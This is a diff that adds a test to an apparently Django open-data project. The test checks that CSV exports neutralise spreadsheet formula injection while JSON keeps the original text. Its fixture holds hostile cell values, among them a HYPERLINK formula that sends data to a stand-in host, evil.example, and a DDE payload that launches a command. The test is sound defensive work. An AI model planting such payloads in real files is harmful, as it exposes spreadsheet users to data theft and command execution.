@@ -161,3 +161,29 @@ def test_links_for_the_list_page_keep_its_filters(rf):
     assert (
         '<a href="https://creativecommons.org/licenses/by/4.0/" rel="license">CC BY 4.0</a>' in html
     )
+
+
+HOSTILE_CELLS = {
+    "investor_en": '=HYPERLINK("http://evil.example/?"&B2,"Investor details")',
+    "investor_zh_hans": "+86 635 1234 5678",
+    "investor_country_en": "-2+3",
+    "investor_country_zh_hans": "@SUM(1,2)",
+    "summary_en": "\tcmd|' /C calc'!A0",
+    "summary_zh_hans": "  =1+1",
+}
+
+
+def test_csv_cells_never_start_a_formula_and_the_json_keeps_the_text(client):
+    make_project(slug="hostile", name_en="Ring line", **HOSTILE_CELLS)
+    [row] = csv_rows(client.get("/en/projects/open-data/projects.csv"))
+    for field, value in HOSTILE_CELLS.items():
+        assert row[field] == f"'{value}", field
+    # Plain text, numbers and dates are written as they are, so a spreadsheet still sums them.
+    assert (row["name_en"], row["investment_yuan"], row["signing_date"]) == (
+        "Ring line",
+        "300000000.00",
+        "2023-11-14",
+    )
+    [project] = json.loads(client.get("/en/projects/open-data/projects.json").content)["projects"]
+    for field, value in HOSTILE_CELLS.items():
+        assert project[field] == value, field
